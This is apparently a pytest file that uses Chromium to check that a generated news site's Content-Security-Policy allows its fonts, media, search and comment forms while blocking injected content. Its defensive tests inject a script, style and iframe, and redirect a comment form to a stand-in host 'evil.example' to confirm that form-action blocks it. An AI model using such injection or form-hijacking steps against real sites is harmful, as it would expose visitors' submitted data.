"""Real Chromium, which gets the headers of `_headers`, finds nothing on a site that its policy forbids."""

import re
from contextlib import contextmanager
from functools import partial
from http.server import ThreadingHTTPServer
from threading import Thread
from urllib.parse import parse_qsl, quote, urlsplit

import pytest

from comment_services import ENDPOINTS, NEXT, settings
from header_hosts import cloudflare
from newsgen.cli.entry import main
from sample_sites import PAGES, SERVED_AT, built
from searched_sites import SiteHandler

WATCH = (
    "window.broken = []; document.addEventListener('securitypolicyviolation', e => broken.push(e.violatedDirective))"
)
BROKEN = """async number => {
  for (let i = 0; i < 1000 && broken.length < number; i++) await new Promise(done => setTimeout(done, 10));
  return broken;
}"""
"""Waits for so many violations, which are reported a little later than they happen."""
PIXEL = b"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>"
OUTSIDE = re.compile("^https:")
RICH = SERVED_AT["rich"]
HOME, ARTICLE = RICH, PAGES["Markdown"]
MEDIA_LOADED = """async () => {
  const ready = media => new Promise(done => {
    media.addEventListener('loadedmetadata', () => done('loaded'));
    media.addEventListener('error', () => done('error ' + media.error?.code));
    media.querySelector('source:last-of-type').addEventListener('error', () => done('no source'));
    media.preload = 'metadata';
    media.load();
  });
  return Promise.all([...document.querySelectorAll('audio, video')].map(ready));
}"""
PICTURES_LOADED = """async () => {
  const pictures = [...document.images];
  pictures.forEach(one => { one.loading = 'eager'; });
  await Promise.all(pictures.map(one => one.decode()));
  return pictures.length;
}"""


class _Host(SiteHandler):
    """Serve a folder below a path with the headers that a host sends, and its page for missing addresses."""

    def __init__(self, *arguments, folder, prefix):
        self.prefix, self.text = quote(prefix), (folder / "_headers").read_text()
        self.site = folder
        super().__init__(*arguments, directory=str(folder))

    def translate_path(self, path):
        return super().translate_path("/" + path.removeprefix(self.prefix))

    def end_headers(self):
        for name, value in cloudflare(self.text, urlsplit(self.path).path).items():
            self.send_header(name, value)
        super().end_headers()

    def do_POST(self):  # noqa: N802 - the server calls it by this name
        self.rfile.read(int(self.headers["Content-Length"]))
        self.do_GET()  # Netlify answers with the page that was posted to


@contextmanager
def hosted(folder, prefix="/"):
    """Serve the site in *folder* below a path as a host does; provide the address of the server."""
    handler = partial(_Host, folder=folder, prefix=prefix)
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        server.daemon_threads = True
        Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


@pytest.fixture(scope="module")
def watched(chromium):
    """Open a page of the browser that records violations and messages; other sites answer with a picture."""
    with chromium.new_context(viewport={"width": 1280, "height": 800}) as context:
        context.set_default_timeout(60_000)  # a busy machine may be slow
        context.add_init_script(WATCH)
        context.route(OUTSIDE, lambda route: route.fulfill(content_type="image/svg+xml", body=PIXEL))
        page = context.new_page()
        page.messages = []
        page.on("console", lambda message: page.messages.append(message.text))
        page.on("pageerror", lambda error: page.messages.append(str(error)))
        yield page


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    """Serve the site with every feature; return the address of the server. Hosts send the same headers for it."""
    with hosted(built("rich", tmp_path_factory), RICH) as address:
        yield address


@pytest.fixture
def visit(watched, host):
    """Return a function that opens a page of the site; at the end nothing must have been forbidden."""
    watched.messages.clear()

    def go(path):
        watched.goto(host + quote(path))
        return watched

    yield go
    assert watched.evaluate("broken") == []
    assert [text for text in watched.messages if "404" not in text] == []


@pytest.mark.parametrize("name", ["home", "visitors' comments", "page", "missing page", "ledger with comments"])
def test_pages_need_nothing_that_is_forbidden(visit, name):
    """Style sheet, web font and icon are loaded, by day, by night and on paper."""
    page = visit(PAGES[name])
    for look in ({"color_scheme": "dark"}, {"media": "print"}, {"color_scheme": "light", "media": "screen"}):
        page.emulate_media(**look)
        page.evaluate("document.fonts.ready")
    assert page.evaluate("document.fonts.size && [...document.fonts].every(font => font.status == 'loaded')")
    assert page.evaluate("document.styleSheets.length") >= 1


def test_pictures_films_and_sounds_are_shown(visit):
    """Those of the site, and the pictures of other sites."""
    page = visit(ARTICLE)
    assert page.evaluate(PICTURES_LOADED) >= 3
    outcome = page.evaluate(MEDIA_LOADED)
    assert len(outcome) >= 2
    assert "loaded" in outcome


def test_the_search_finds_articles(visit):
    """Its scripts, worker, WebAssembly and index are allowed on its page."""
    page = visit(f"{RICH}search/")
    page.fill("#page-q", "المنارة")
    page.press("#page-q", "Enter")
    page.wait_for_selector("#page-results h2")
    assert "حارس المنارة" in page.inner_text("#page-results h2 >> nth=0")
    assert page.workers


def test_the_search_of_each_page_leads_to_results(visit):
    """The form of the masthead may be sent."""
    page = visit(HOME)
    page.fill(".seek input", "المنارة")
    page.press(".seek input", "Enter")
    page.wait_for_url("**/search/?q=*")
    page.wait_for_selector("#page-results h2")


def test_a_script_in_a_page_would_not_run(visit):
    """The policy is in force: a script, a style and a frame that somebody slipped in do nothing."""
    page = visit(ARTICLE)
    page.evaluate(
        """() => {
          const add = (tag, fill) => { const e = document.createElement(tag); fill(e); document.body.append(e); };
          add('script', e => { e.textContent = 'window.ran = true'; });
          add('p', e => { e.setAttribute('style', 'color: red'); });
          add('iframe', e => { e.src = '/'; });
        }"""
    )
    assert {one.partition("-")[0] for one in page.evaluate(BROKEN, 3)} == {"script", "style", "frame"}
    assert not page.evaluate("window.ran")
    page.goto("about:blank")
    page.messages.clear()


@pytest.mark.parametrize("preset", ["wordpress", "netlify", "formspree"])
def test_a_comment_may_be_sent(watched, tmp_path, preset):
    """And the browser may follow an answer to the page with the thanks, but the form may lead nowhere else.

    The services stay on their own host, are the site itself, or lead back to it, as the others do.
    """
    with hosted(tmp_path / "site") as address:
        build_with_form(tmp_path, address, preset)

        def answer(route):
            """Lead to the page that the form asks for, as the service does."""
            sent = dict(parse_qsl(route.request.post_data or ""))
            to = sent.get(NEXT.get(preset, ""))
            route.fulfill(status=303, headers={"Location": to}) if to else route.fulfill(body="received")

        watched.route(OUTSIDE, answer)
        watched.goto(f"{address}/articles/a/")
        for name in ("comment", "author", "email"):
            watched.fill(f"#form-{name}", "layla@example.org")
        with watched.expect_navigation():
            watched.click("button[type=submit]")
        assert watched.url == f"{address}/thanks/" if preset != "wordpress" else ENDPOINTS[preset]
        watched.goto(f"{address}/articles/a/")
        watched.evaluate("document.forms[0].action = 'https://evil.example/'; document.forms[0].submit()")
        assert watched.evaluate(BROKEN, 1) == ["form-action"]
        watched.unroute(OUTSIDE, answer)


def test_a_comment_may_be_sent_by_mail(watched, tmp_path):
    """The browser hands it to a mail program, which the policy allows."""
    with hosted(tmp_path / "site") as address:
        build_with_form(tmp_path, address, "mailto")
        watched.goto(f"{address}/articles/a/")
        watched.fill("#form-comment", "شكرا")
        watched.evaluate("document.forms[0].submit()")
        watched.evaluate("document.forms[0].action = '/mail'; document.forms[0].submit()")
        assert watched.evaluate(BROKEN, 1) == ["form-action"]  # of the second alone


def build_with_form(root, address, preset):
    """Build a site with one article, whose form sends to a service."""
    (root / "content/articles").mkdir(parents=True)
    (root / "content/articles/a.md").write_text("---\nslug: a\ntitle: خبر\n---\n\nنص الخبر.\n", encoding="utf-8")
    text = f"font: system\nbase_url: {address}/\n{settings(preset)}"
    (root / "content/site.yml").write_text(text, encoding="utf-8")
    assert main(["build", "--jobs", "1", "--root", str(root)]) == 0
